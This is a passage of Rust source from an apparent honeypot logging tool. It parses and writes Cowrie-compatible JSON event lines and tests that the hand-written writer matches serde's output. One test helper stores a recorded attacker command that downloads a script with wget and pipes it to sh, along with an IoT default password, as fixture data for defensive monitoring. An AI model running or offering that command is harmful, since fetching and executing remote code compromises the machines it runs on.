//! JSON lines: one object per event, the schema of `docs/EVENTS.md`.
//!
//! ```json
//! {"ts":"2016-04-01T00:00:01.000000Z","event":"packet","kind":"probe","proto":6,"proto_name":"tcp","src":"203.0.113.9","sport":4711,"dst":"198.51.100.7","dport":23,"ip_len":40,"tcp_flags":"S","os":"Linux 2.6 "}
//! {"ts":"2016-04-01T00:00:02.000000Z","sensor":"tokyo-1","event":"log_started"}
//! ```
//!
//! Absent fields are left out, never written as `null` (both are read). Unknown fields are
//! ignored when reading, so newer writers stay readable.
//!
//! Session events use Cowrie's field names (`eventid`, `session`, `src_ip`, `timestamp`, …)
//! so that pipelines built for Cowrie's JSON read them; Cowrie's own lines (no `ts`, no
//! `event`) read as session events too.
//!
//! HTTP requests (`"event":"http"`) carry `"eventid":"honeyscope.http.request"` and the same
//! Cowrie names for the connection, so that those pipelines see them too.

use std::borrow::Cow;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
use std::sync::Arc;

use serde::{Deserialize, Serialize};

use crate::model::{
    Event, HttpEvent, LifecycleEvent, LogState, PacketEvent, PacketKind, PayloadEvent,
    SessionEvent, SessionEventId, TcpFlags,
};
use crate::time::Timestamp;

/// Why a JSON line is not an event.
#[derive(Debug, thiserror::Error)]
pub enum JsonError {
    /// Not a JSON object of the expected shape.
    #[error("not a honeyscope JSON event: {0}")]
    Syntax(#[from] serde_json::Error),
    /// `ts` is not an RFC 3339 time within years 1–9999.
    #[error("bad ts (want RFC 3339, e.g. 2016-04-01T00:00:01.000000Z)")]
    Time,
    /// `event` names no known event type.
    #[error(
        "unknown event type {0:?} (want packet, payload, session, http, log_started or log_stopped)"
    )]
    EventType(String),
    /// A field the event type requires is missing or malformed.
    #[error("field {0}: missing or malformed")]
    Field(&'static str),
}

/// The flat on-the-wire record; every event type uses a subset of these fields.
#[derive(Serialize, Deserialize, Default)]
struct Record<'a> {
    // Cowrie's lines have neither `ts` nor `event`: they read as empty, and `timestamp` and
    // `eventid` stand in.
    #[serde(default, borrow)]
    ts: std::borrow::Cow<'a, str>,
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    sensor: Option<std::borrow::Cow<'a, str>>,
    #[serde(default, borrow)]
    event: std::borrow::Cow<'a, str>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    kind: Option<std::borrow::Cow<'a, str>>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    proto: Option<u8>,
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    proto_name: Option<std::borrow::Cow<'a, str>>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    src: Option<IpAddr>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    sport: Option<u16>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    dst: Option<IpAddr>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    dport: Option<u16>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    icmp_type: Option<u8>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    icmp_code: Option<u8>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    ip_len: Option<u32>,
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    tcp_flags: Option<std::borrow::Cow<'a, str>>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    rx_bytes: Option<u64>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    tx_bytes: Option<u64>,
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    os: Option<std::borrow::Cow<'a, str>>,
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    remark: Option<std::borrow::Cow<'a, str>>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    payload_size: Option<u64>,
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    payload_sha256: Option<std::borrow::Cow<'a, str>>,
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    payload_head: Option<std::borrow::Cow<'a, str>>,
    // Session events, with Cowrie's names.
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    eventid: Option<Cow<'a, str>>,
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    session: Option<Cow<'a, str>>,
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    protocol: Option<Cow<'a, str>>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    src_ip: Option<IpAddr>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    src_port: Option<u16>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    dst_ip: Option<IpAddr>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    dst_port: Option<u16>,
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    timestamp: Option<Cow<'a, str>>,
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    username: Option<Cow<'a, str>>,
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    password: Option<Cow<'a, str>>,
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    input: Option<Cow<'a, str>>,
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    url: Option<Cow<'a, str>>,
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    host: Option<Cow<'a, str>>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    port: Option<u16>,
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    method: Option<Cow<'a, str>>,
    // HTTP requests' own fields (they share `session`, the Cowrie connection names, `host`,
    // `method` and `profile` with session events: `event` tells which meaning applies).
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    target: Option<Cow<'a, str>>,
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    path: Option<Cow<'a, str>>,
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    query: Option<Cow<'a, str>>,
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    version: Option<Cow<'a, str>>,
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    user_agent: Option<Cow<'a, str>>,
    /// `[[name, value], …]` in the order sent.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    headers: Option<Vec<(Cow<'a, str>, Cow<'a, str>)>>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    body_size: Option<u64>,
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    body_sha256: Option<Cow<'a, str>>,
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    body_head: Option<Cow<'a, str>>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    status: Option<u16>,
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    exploit: Option<Cow<'a, str>>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    commands: Option<Vec<Cow<'a, str>>>,
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    error: Option<Cow<'a, str>>,
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    outfile: Option<Cow<'a, str>>,
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    destfile: Option<Cow<'a, str>>,
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    filename: Option<Cow<'a, str>>,
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    shasum: Option<Cow<'a, str>>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    size: Option<u64>,
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    arch: Option<Cow<'a, str>>,
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    callback: Option<Cow<'a, str>>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    width: Option<u32>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    height: Option<u32>,
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    name: Option<Cow<'a, str>>,
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    value: Option<Cow<'a, str>>,
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    ttylog: Option<Cow<'a, str>>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    duration: Option<Seconds>,
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    message: Option<Cow<'a, str>>,
    #[serde(default, skip_serializing_if = "Option::is_none", borrow)]
    profile: Option<Cow<'a, str>>,
}

/// Cowrie's `duration`: seconds as a JSON number, or (some pipelines) a numeric string.
#[derive(Serialize, Clone, Copy, Debug)]
struct Seconds(f64);

impl<'de> Deserialize<'de> for Seconds {
    fn deserialize<D: serde::Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        struct V;
        impl serde::de::Visitor<'_> for V {
            type Value = Seconds;
            fn expecting(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
                f.write_str("seconds, as a number or a numeric string")
            }
            fn visit_f64<E: serde::de::Error>(self, v: f64) -> Result<Seconds, E> {
                Ok(Seconds(v))
            }
            fn visit_u64<E: serde::de::Error>(self, v: u64) -> Result<Seconds, E> {
                Ok(Seconds(v as f64))
            }
            fn visit_i64<E: serde::de::Error>(self, v: i64) -> Result<Seconds, E> {
                Ok(Seconds(v as f64))
            }
            fn visit_str<E: serde::de::Error>(self, v: &str) -> Result<Seconds, E> {
                v.trim()
                    .parse()
                    .map(Seconds)
                    .map_err(|_| E::custom("duration: not a number"))
            }
        }
        d.deserialize_any(V)
    }
}

/// The longest duration read, in µs (about 35 years): below 2^51 µs, every six-digit
/// decimal of seconds names one µs value through an f64, so durations round-trip exactly.
const MAX_DURATION_US: u64 = 1 << 50;

/// Seconds as read to whole µs, if they are a duration honeyscope keeps.
fn duration_us(s: Seconds) -> Option<u64> {
    let us = (s.0 * 1e6).round();
    (us.is_finite() && us >= 0.0 && us <= MAX_DURATION_US as f64).then_some(us as u64)
}

/// Parses a session event: ours (`"event":"session"`) or Cowrie's own line. Cowrie writes
/// the ports, `dst_ip` and `protocol` only on `cowrie.session.connect`; where they are
/// absent they read as 0, the unspecified address of `src_ip`'s family, and the empty
/// string.
fn parse_session(
    r: Record<'_>,
    time: Timestamp,
    sensor: Option<Arc<str>>,
) -> Result<Event, JsonError> {
    let eventid = r
        .eventid
        .as_deref()
        .and_then(SessionEventId::from_name)
        .ok_or(JsonError::Field("eventid"))?;
    let session = r.session.ok_or(JsonError::Field("session"))?;
    let src = r.src_ip.ok_or(JsonError::Field("src_ip"))?;
    let dst = r.dst_ip.unwrap_or(match src {
        IpAddr::V4(_) => IpAddr::V4(Ipv4Addr::UNSPECIFIED),
        IpAddr::V6(_) => IpAddr::V6(Ipv6Addr::UNSPECIFIED),
    });
    let mut s = SessionEvent::new(
        time,
        eventid,
        &session,
        r.protocol.as_deref().unwrap_or(""),
        (src, r.src_port.unwrap_or(0)).into(),
        (dst, r.dst_port.unwrap_or(0)).into(),
    );
    let own = |v: Option<Cow<'_, str>>| v.map(|v| Box::<str>::from(v.as_ref()));
    s.sensor = sensor;
    s.username = own(r.username);
    s.password = own(r.password);
    s.input = own(r.input);
    s.url = own(r.url);
    s.host = own(r.host);
    s.port = r.port;
    s.method = own(r.method);
    s.outfile = own(r.outfile);
    s.destfile = own(r.destfile);
    s.filename = own(r.filename);
    s.shasum = own(r.shasum);
    s.size = r.size;
    s.arch = own(r.arch);
    s.callback = own(r.callback);
    s.width = r.width;
    s.height = r.height;
    s.name = own(r.name);
    s.value = own(r.value);
    s.ttylog = own(r.ttylog);
    s.duration_us = match r.duration {
        Some(d) => Some(duration_us(d).ok_or(JsonError::Field("duration"))?),
        None => None,
    };
    s.message = own(r.message);
    s.profile = own(r.profile);
    Ok(Event::Session(Box::new(s)))
}

/// Parses an HTTP request event (`"event":"http"`, or a line without `event` whose
/// `eventid` is [`HttpEvent::EVENTID`]). The connection's fields, `body_size` and `status`
/// are required, as the writer always writes them; `eventid` and `protocol` are implied.
fn parse_http(
    r: Record<'_>,
    time: Timestamp,
    sensor: Option<Arc<str>>,
) -> Result<Event, JsonError> {
    let session = r.session.ok_or(JsonError::Field("session"))?;
    let src = r.src_ip.ok_or(JsonError::Field("src_ip"))?;
    let sport = r.src_port.ok_or(JsonError::Field("src_port"))?;
    let dst = r.dst_ip.ok_or(JsonError::Field("dst_ip"))?;
    let dport = r.dst_port.ok_or(JsonError::Field("dst_port"))?;
    let mut h = HttpEvent::new(time, &session, (src, sport).into(), (dst, dport).into());
    let own = |v: Option<Cow<'_, str>>| v.map(|v| Box::<str>::from(v.as_ref()));
    h.sensor = sensor;
    h.method = own(r.method);
    h.target = own(r.target);
    h.path = own(r.path);
    h.query = own(r.query);
    h.version = own(r.version);
    h.host = own(r.host);
    h.user_agent = own(r.user_agent);
    h.headers = r
        .headers
        .unwrap_or_default()
        .into_iter()
        .map(|(n, v)| (Box::from(n.as_ref()), Box::from(v.as_ref())))
        .collect();
    h.body_size = r.body_size.ok_or(JsonError::Field("body_size"))?;
    h.body_sha256 = own(r.body_sha256);
    h.body_head = own(r.body_head);
    h.status = r.status.ok_or(JsonError::Field("status"))?;
    h.exploit = own(r.exploit);
    h.commands = r
        .commands
        .unwrap_or_default()
        .into_iter()
        .map(|c| Box::from(c.as_ref()))
        .collect();
    h.error = own(r.error);
    h.profile = own(r.profile);
    Ok(Event::Http(Box::new(h)))
}

/// Parses one JSON line.
pub fn parse_line(line: &[u8]) -> Result<Event, JsonError> {
    let r: Record<'_> = serde_json::from_slice(line)?;
    // Cowrie's lines have `timestamp` where ours have `ts` (ours have both).
    let ts = match (&*r.ts, &r.timestamp) {
        ("", Some(t)) => t,
        _ => &r.ts,
    };
    let time = Timestamp::parse_rfc3339(ts).ok_or(JsonError::Time)?;
    let sensor: Option<Arc<str>> = r.sensor.as_ref().map(|s| Arc::from(s.as_ref()));
    // `event` decides, not `eventid`: `host` and `method` mean different things in the two.
    if r.event == "http" || (r.event.is_empty() && r.eventid.as_deref() == Some(HttpEvent::EVENTID))
    {
        return parse_http(r, time, sensor);
    }
    if r.event == "session" || (r.event.is_empty() && r.eventid.is_some()) {
        return parse_session(r, time, sensor);
    }
    if r.event == "packet" {
        let kind = r
            .kind
            .as_deref()
            .and_then(PacketKind::from_name)
            .ok_or(JsonError::Field("kind"))?;
        let proto = r.proto.ok_or(JsonError::Field("proto"))?;
        let src = r.src.ok_or(JsonError::Field("src"))?;
        let dst = r.dst.ok_or(JsonError::Field("dst"))?;
        let mut p = PacketEvent::new(time, kind, proto, src, dst);
        p.sensor = sensor;
        if let Some(name) = &r.proto_name {
            p.set_proto_name(name);
        }
        p.sport = r.sport;
        p.dport = r.dport;
        p.icmp_type = r.icmp_type;
        p.icmp_code = r.icmp_code;
        p.ip_len = r.ip_len;
        p.tcp_flags = match &r.tcp_flags {
            Some(letters) => Some(
                TcpFlags::from_letters(letters.as_bytes()).ok_or(JsonError::Field("tcp_flags"))?,
            ),
            None => None,
        };
        p.rx_bytes = r.rx_bytes;
        p.tx_bytes = r.tx_bytes;
        p.os = r.os.map(|s| s.as_ref().into());
        p.remark = r.remark.map(|s| s.as_ref().into());
        return Ok(Event::Packet(p));
    }
    if r.event == "payload" {
        return Ok(Event::Payload(PayloadEvent {
            time,
            sensor,
            proto: r.proto.ok_or(JsonError::Field("proto"))?,
            src: r.src.ok_or(JsonError::Field("src"))?,
            sport: r.sport.ok_or(JsonError::Field("sport"))?,
            dst: r.dst.ok_or(JsonError::Field("dst"))?,
            dport: r.dport.ok_or(JsonError::Field("dport"))?,
            size: r.payload_size.ok_or(JsonError::Field("payload_size"))?,
            sha256: r
                .payload_sha256
                .map(|s| s.as_ref().into())
                .ok_or(JsonError::Field("payload_sha256"))?,
            head: r
                .payload_head
                .map(|s| s.as_ref().into())
                .ok_or(JsonError::Field("payload_head"))?,
        }));
    }
    match LogState::from_name(&r.event) {
        Some(state) => Ok(Event::Lifecycle(LifecycleEvent {
            time,
            sensor,
            state,
        })),
        None => Err(JsonError::EventType(r.event.chars().take(40).collect())),
    }
}

/// Appends `ev` as one JSON line, newline included.
pub fn write_event(ev: &Event, out: &mut String) {
    // Written by hand in `Record`'s field order with serde_json's escaping (a test holds
    // the two to the same bytes): this runs for every packet the sensor logs.
    use crate::text::{push_ip, push_u64};
    // `,"name":` as one literal, so each key is one copy.
    macro_rules! key {
        ($name:literal) => {
            concat!(",\"", $name, "\":")
        };
    }
    fn num(out: &mut String, key: &str, v: Option<u64>) {
        if let Some(v) = v {
            out.push_str(key);
            push_u64(out, v);
        }
    }
    fn text(out: &mut String, key: &str, v: Option<&str>) {
        if let Some(v) = v {
            out.push_str(key);
            push_json_str(out, v);
        }
    }
    fn ip(out: &mut String, key: &str, v: std::net::IpAddr) {
        out.push_str(key);
        out.push('"');
        push_ip(out, v);
        out.push('"');
    }
    out.push_str("{\"ts\":\"");
    ev.time().write_rfc3339(out);
    out.push('"');
    text(out, key!("sensor"), ev.sensor().map(|s| &**s));
    match ev {
        Event::Lifecycle(l) => text(out, key!("event"), Some(l.state.as_str())),
        Event::Session(s) => {
            out.push_str(concat!(key!("event"), "\"session\""));
            text(out, key!("eventid"), Some(s.eventid.as_str()));
            text(out, key!("session"), Some(&s.session));
            text(out, key!("protocol"), Some(&s.protocol));
            ip(out, key!("src_ip"), s.src);
            num(out, key!("src_port"), Some(u64::from(s.sport)));
            ip(out, key!("dst_ip"), s.dst);
            num(out, key!("dst_port"), Some(u64::from(s.dport)));
            // Cowrie's name for the time, for pipelines keyed on it: the same as `ts`.
            out.push_str(concat!(key!("timestamp"), "\""));
            s.time.write_rfc3339(out);
            out.push('"');
            text(out, key!("username"), s.username.as_deref());
            text(out, key!("password"), s.password.as_deref());
            text(out, key!("input"), s.input.as_deref());
            text(out, key!("url"), s.url.as_deref());
            text(out, key!("host"), s.host.as_deref());
            num(out, key!("port"), s.port.map(u64::from));
            text(out, key!("method"), s.method.as_deref());
            text(out, key!("outfile"), s.outfile.as_deref());
            text(out, key!("destfile"), s.destfile.as_deref());
            text(out, key!("filename"), s.filename.as_deref());
            text(out, key!("shasum"), s.shasum.as_deref());
            num(out, key!("size"), s.size);
            text(out, key!("arch"), s.arch.as_deref());
            text(out, key!("callback"), s.callback.as_deref());
            num(out, key!("width"), s.width.map(u64::from));
            num(out, key!("height"), s.height.map(u64::from));
            text(out, key!("name"), s.name.as_deref());
            text(out, key!("value"), s.value.as_deref());
            text(out, key!("ttylog"), s.ttylog.as_deref());
            if let Some(us) = s.duration_us {
                out.push_str(key!("duration"));
                push_seconds(out, us);
            }
            text(out, key!("message"), s.message.as_deref());
            text(out, key!("profile"), s.profile.as_deref());
        }
        Event::Http(h) => {
            out.push_str(concat!(key!("event"), "\"http\""));
            text(out, key!("eventid"), Some(HttpEvent::EVENTID));
            text(out, key!("session"), Some(&h.session));
            text(out, key!("protocol"), Some("http"));
            ip(out, key!("src_ip"), h.src);
            num(out, key!("src_port"), Some(u64::from(h.sport)));
            ip(out, key!("dst_ip"), h.dst);
            num(out, key!("dst_port"), Some(u64::from(h.dport)));
            out.push_str(concat!(key!("timestamp"), "\""));
            h.time.write_rfc3339(out);
            out.push('"');
            // In `Record`'s order: `host` comes before `method` there (session events').
            text(out, key!("host"), h.host.as_deref());
            text(out, key!("method"), h.method.as_deref());
            text(out, key!("target"), h.target.as_deref());
            text(out, key!("path"), h.path.as_deref());
            text(out, key!("query"), h.query.as_deref());
            text(out, key!("version"), h.version.as_deref());
            text(out, key!("user_agent"), h.user_agent.as_deref());
            if !h.headers.is_empty() {
                out.push_str(concat!(key!("headers"), "["));
                for (i, (name, value)) in h.headers.iter().enumerate() {
                    out.push_str(if i == 0 { "[" } else { ",[" });
                    push_json_str(out, name);
                    out.push(',');
                    push_json_str(out, value);
                    out.push(']');
                }
                out.push(']');
            }
            num(out, key!("body_size"), Some(h.body_size));
            text(out, key!("body_sha256"), h.body_sha256.as_deref());
            text(out, key!("body_head"), h.body_head.as_deref());
            num(out, key!("status"), Some(u64::from(h.status)));
            text(out, key!("exploit"), h.exploit.as_deref());
            if !h.commands.is_empty() {
                out.push_str(concat!(key!("commands"), "["));
                for (i, c) in h.commands.iter().enumerate() {
                    if i > 0 {
                        out.push(',');
                    }
                    push_json_str(out, c);
                }
                out.push(']');
            }
            text(out, key!("error"), h.error.as_deref());
            text(out, key!("profile"), h.profile.as_deref());
        }
        Event::Payload(d) => {
            out.push_str(concat!(key!("event"), "\"payload\""));
            num(out, key!("proto"), Some(u64::from(d.proto)));
            ip(out, key!("src"), d.src);
            num(out, key!("sport"), Some(u64::from(d.sport)));
            ip(out, key!("dst"), d.dst);
            num(out, key!("dport"), Some(u64::from(d.dport)));
            num(out, key!("payload_size"), Some(d.size));
            text(out, key!("payload_sha256"), Some(&d.sha256));
            text(out, key!("payload_head"), Some(&d.head));
        }
        Event::Packet(p) => {
            out.push_str(concat!(key!("event"), "\"packet\""));
            text(out, key!("kind"), Some(p.kind.as_str()));
            num(out, key!("proto"), Some(u64::from(p.proto)));
            text(out, key!("proto_name"), Some(p.proto_name()));
            ip(out, key!("src"), p.src);
            num(out, key!("sport"), p.sport.map(u64::from));
            ip(out, key!("dst"), p.dst);
            num(out, key!("dport"), p.dport.map(u64::from));
            num(out, key!("icmp_type"), p.icmp_type.map(u64::from));
            num(out, key!("icmp_code"), p.icmp_code.map(u64::from));
            num(out, key!("ip_len"), p.ip_len.map(u64::from));
            if let Some(f) = p.tcp_flags {
                out.push_str(key!("tcp_flags"));
                out.push('"');
                f.push_letters(out);
                out.push('"');
            }
            num(out, key!("rx_bytes"), p.rx_bytes);
            num(out, key!("tx_bytes"), p.tx_bytes);
            text(out, key!("os"), p.os.as_deref());
            text(out, key!("remark"), p.remark.as_deref());
        }
    }
    out.push_str("}\n");
}

/// Appends µs as decimal seconds: the whole seconds, a point, and the six fraction digits
/// without trailing zeros (at least one digit): `12.5`, `3.0`, `0.000001`. Exact, and a
/// plain JSON number as Cowrie's float seconds are.
fn push_seconds(out: &mut String, us: u64) {
    crate::text::push_u64(out, us / 1_000_000);
    out.push('.');
    let mut frac = us % 1_000_000;
    let mut digits = 6;
    while digits > 1 && frac.is_multiple_of(10) {
        frac /= 10;
        digits -= 1;
    }
    let mut buf = [b'0'; 6];
    for d in buf[..digits].iter_mut().rev() {
        *d = b'0' + (frac % 10) as u8;
        frac /= 10;
    }
    crate::text::push_ascii(out, &buf[..digits]);
}

/// Appends `s` as a JSON string, escaped exactly as serde_json does: `"` and `\\`, the
/// short escapes for backspace, form feed, newline, carriage return and tab, and `\u00XX`
/// for the other control characters; everything else as it is.
fn push_json_str(out: &mut String, s: &str) {
    const HEX: &[u8; 16] = b"0123456789abcdef";
    out.push('"');
    let mut start = 0;
    for (i, b) in s.bytes().enumerate() {
        let esc: Option<&str> = match b {
            b'"' => Some("\\\""),
            b'\\' => Some("\\\\"),
            0x08 => Some("\\b"),
            0x0c => Some("\\f"),
            b'\n' => Some("\\n"),
            b'\r' => Some("\\r"),
            b'\t' => Some("\\t"),
            0..=0x1f => None,
            _ => continue,
        };
        out.push_str(&s[start..i]);
        match esc {
            Some(e) => out.push_str(e),
            None => {
                out.push_str("\\u00");
                out.push(HEX[usize::from(b >> 4)] as char);
                out.push(HEX[usize::from(b & 0xf)] as char);
            }
        }
        start = i + 1;
    }
    out.push_str(&s[start..]);
    out.push('"');
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::honeyd;
    use crate::time::LocalZone;

    /// What `write_event` wrote through serde before it was written by hand.
    fn via_serde(ev: &Event) -> String {
        let ts = ev.time().to_rfc3339();
        let r = match ev {
            Event::Lifecycle(l) => Record {
                ts: ts.into(),
                sensor: l.sensor.as_deref().map(Into::into),
                event: l.state.as_str().into(),
                ..Record::default()
            },
            Event::Payload(d) => Record {
                ts: ts.into(),
                sensor: d.sensor.as_deref().map(Into::into),
                event: "payload".into(),
                proto: Some(d.proto),
                src: Some(d.src),
                sport: Some(d.sport),
                dst: Some(d.dst),
                dport: Some(d.dport),
                payload_size: Some(d.size),
                payload_sha256: Some(d.sha256.to_string().into()),
                payload_head: Some(d.head.to_string().into()),
                ..Record::default()
            },
            Event::Session(s) => {
                fn t(v: &Option<Box<str>>) -> Option<Cow<'_, str>> {
                    v.as_deref().map(Into::into)
                }
                Record {
                    ts: ts.clone().into(),
                    sensor: s.sensor.as_deref().map(Into::into),
                    event: "session".into(),
                    eventid: Some(s.eventid.as_str().into()),
                    session: Some(s.session.to_string().into()),
                    protocol: Some(s.protocol.to_string().into()),
                    src_ip: Some(s.src),
                    src_port: Some(s.sport),
                    dst_ip: Some(s.dst),
                    dst_port: Some(s.dport),
                    timestamp: Some(ts.into()),
                    username: t(&s.username),
                    password: t(&s.password),
                    input: t(&s.input),
                    url: t(&s.url),
                    host: t(&s.host),
                    port: s.port,
                    method: t(&s.method),
                    outfile: t(&s.outfile),
                    destfile: t(&s.destfile),
                    filename: t(&s.filename),
                    shasum: t(&s.shasum),
                    size: s.size,
                    arch: t(&s.arch),
                    callback: t(&s.callback),
                    width: s.width,
                    height: s.height,
                    name: t(&s.name),
                    value: t(&s.value),
                    ttylog: t(&s.ttylog),
                    duration: s.duration_us.map(|us| Seconds(us as f64 / 1e6)),
                    message: t(&s.message),
                    profile: t(&s.profile),
                    ..Record::default()
                }
            }
            Event::Http(h) => {
                fn t(v: &Option<Box<str>>) -> Option<Cow<'_, str>> {
                    v.as_deref().map(Into::into)
                }
                Record {
                    ts: ts.clone().into(),
                    sensor: h.sensor.as_deref().map(Into::into),
                    event: "http".into(),
                    eventid: Some(HttpEvent::EVENTID.into()),
                    session: Some(h.session.to_string().into()),
                    protocol: Some("http".into()),
                    src_ip: Some(h.src),
                    src_port: Some(h.sport),
                    dst_ip: Some(h.dst),
                    dst_port: Some(h.dport),
                    timestamp: Some(ts.into()),
                    method: t(&h.method),
                    target: t(&h.target),
                    path: t(&h.path),
                    query: t(&h.query),
                    version: t(&h.version),
                    host: t(&h.host),
                    user_agent: t(&h.user_agent),
                    headers: (!h.headers.is_empty()).then(|| {
                        h.headers
                            .iter()
                            .map(|(n, v)| (Cow::from(&**n), Cow::from(&**v)))
                            .collect()
                    }),
                    body_size: Some(h.body_size),
                    body_sha256: t(&h.body_sha256),
                    body_head: t(&h.body_head),
                    status: Some(h.status),
                    exploit: t(&h.exploit),
                    commands: (!h.commands.is_empty())
                        .then(|| h.commands.iter().map(|c| Cow::from(&**c)).collect()),
                    error: t(&h.error),
                    profile: t(&h.profile),
                    ..Record::default()
                }
            }
            Event::Packet(p) => Record {
                ts: ts.into(),
                sensor: p.sensor.as_deref().map(Into::into),
                event: "packet".into(),
                kind: Some(p.kind.as_str().into()),
                proto: Some(p.proto),
                proto_name: Some(p.proto_name().to_string().into()),
                src: Some(p.src),
                sport: p.sport,
                dst: Some(p.dst),
                dport: p.dport,
                icmp_type: p.icmp_type,
                icmp_code: p.icmp_code,
                ip_len: p.ip_len,
                tcp_flags: p.tcp_flags.map(|f| f.to_string().into()),
                rx_bytes: p.rx_bytes,
                tx_bytes: p.tx_bytes,
                os: p.os.as_deref().map(|s| s.to_string().into()),
                remark: p.remark.as_deref().map(|s| s.to_string().into()),
                ..Record::default()
            },
        };
        serde_json::to_string(&r).unwrap() + "\n"
    }

    #[test]
    fn the_hand_written_json_is_serdes_byte_for_byte() {
        use crate::{LifecycleEvent, LogState, PacketEvent, PacketKind, TcpFlags, Timestamp};
        let t = Timestamp::from_micros(1_459_468_801_123_456).unwrap();
        let mut full = PacketEvent::new(
            t,
            PacketKind::FlowEnd,
            6,
            "203.0.113.9".parse().unwrap(),
            "2001:db8::7".parse().unwrap(),
        );
        full.sensor = Some("s\"1\\".into());
        full.sport = Some(0);
        full.dport = Some(65535);
        full.icmp_type = Some(255);
        full.icmp_code = Some(0);
        full.ip_len = Some(u32::MAX);
        full.tcp_flags = Some(TcpFlags(0xff));
        full.rx_bytes = Some(u64::MAX);
        full.tx_bytes = Some(0);
        full.os = Some("Linux 2.6 \u{1}\u{8}\u{c}\n\r\t\u{1f}\u{7f} é 日本 /".into());
        full.remark = Some("".into());
        full.set_proto_name("tcp weird\u{0}");
        let mut bare = PacketEvent::new(
            t,
            PacketKind::Probe,
            47,
            "0.0.0.0".parse().unwrap(),
            "255.255.255.255".parse().unwrap(),
        );
        bare.sensor = None;
        let life = LifecycleEvent {
            time: t,
            sensor: Some("x".into()),
            state: LogState::Stopped,
        };
        let payload = crate::PayloadEvent {
            time: t,
            sensor: None,
            proto: 6,
            src: "203.0.113.9".parse().unwrap(),
            sport: 40000,
            dst: "198.51.100.7".parse().unwrap(),
            dport: 23,
            size: 6,
            sha256: "7d".repeat(32).into(),
            head: "root\\x0d\\x0a".into(),
        };
        for ev in [
            Event::Payload(payload),
            Event::Packet(full),
            Event::Packet(bare),
            Event::Lifecycle(life),
        ] {
            let mut ours = String::new();
            write_event(&ev, &mut ours);
            assert_eq!(ours, via_serde(&ev));
            assert_eq!(parse_line(ours.trim_end().as_bytes()).unwrap(), ev);
        }
    }

    /// A session event of `id` with every field set (to values whose JSON serde writes as
    /// the hand-written writer does: durations are ones ryu prints in plain decimals).
    fn full_session(id: SessionEventId, n: u64) -> SessionEvent {
        let t = Timestamp::from_micros(1_700_000_000_123_456 + n as i64).unwrap();
        let mut s = SessionEvent::new(
            t,
            id,
            "a1b2c3d4e5f6",
            "telnet",
            "203.0.113.9:40000".parse().unwrap(),
            "[2001:db8::7]:23".parse().unwrap(),
        );
        s.sensor = Some("tokyo-1".into());
        s.username = Some("root".into());
        s.password = Some("xc3511\"\\".into());
        s.input = Some("cd /tmp; wget http://198.51.100.1/x.sh -O- | sh\\x0d".into());
        s.url = Some("http://198.51.100.1:8080/x.sh".into());
        s.host = Some("198.51.100.1".into());
        s.port = Some(8080);
        s.method = Some("wget".into());
        s.outfile = Some(format!("artifacts/{}", "ab".repeat(32)).into());
        s.destfile = Some("/tmp/x.sh".into());
        s.filename = Some("/tmp/.d".into());
